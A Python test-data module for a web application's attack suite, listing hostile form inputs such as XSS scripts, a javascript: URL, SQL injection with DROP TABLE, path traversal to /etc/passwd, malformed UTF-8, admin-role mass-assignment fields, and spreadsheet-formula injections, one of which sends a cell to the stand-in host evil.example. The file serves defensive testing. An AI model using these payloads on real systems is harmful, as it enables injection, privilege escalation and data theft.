"""The bad-input classes of the attack suite: each is what a hostile or careless person can type, paste or send.

``TEXT`` values go into every free-text field of every form; ``RAW`` bodies are sent as they are, because a test
client cannot build them from Python strings (invalid UTF-8). Markers are unique so that a page showing one of them
*unescaped* is found by a plain substring search.
"""

from __future__ import annotations

SCRIPT = "<script>omtankeXss(1)</script>"
IMG = '"><img src=x onerror=omtankeXss(2)>'
#: Substrings that must never appear in an HTML page: they would run.
LIVE_MARKERS = ("<script>omtankeXss", "<img src=x onerror=omtankeXss", 'href="javascript:omtankeXss')

TEXT: dict[str, str] = {
    "script and html": f"{SCRIPT} {IMG} <b>fet</b>",
    "javascript url": "javascript:omtankeXss(3)",
    "spreadsheet formula": '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "formula after a sign": "+cmd|' /C calc'!A0",
    "control characters": "rad\x00ett\x07\x08\x1b[31mröd\x7f",
    "noncharacters": "fel\ufffe\uffffslut",
    "rtl override": "Lön\u202efdp.exe",
    "zero-width": "hej\u200b\u200c\u200d\ufeffdå",
    "4-byte characters": "😀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠜎",
    "nfd text": "A\u030asa O\u0308stlund",  # Åsa Östlund decomposed
    "sql metacharacters": "' OR '1'='1'; DROP TABLE users; -- \\ % _",
    "40,000 characters": "lång " * 8000,
    "path-like": "../../../etc/passwd\\..\\windows\\win.ini",
    "only whitespace": " \t \n ",
    "out-of-range number": "-99999999999999999999999",
    "not a number": "1e309 NaN Infinity",
}

#: Percent-encoded bytes that are not UTF-8: a lone surrogate (CESU-8) and a cut-off multi-byte sequence.
RAW = {"lone surrogate": "%ED%A0%80", "cut-off sequence": "%E2%82", "overlong slash": "%C0%AF"}

#: Fields a form does not have, trying to set what only an admin may set.
EXTRA_FIELDS = [
    ("role", "admin"),
    ("is_admin", "1"),
    ("unit_id", "1"),
    ("unit", "1"),
    ("owner_id", "1"),
    ("user_id", "1"),
    ("active", "1"),
]
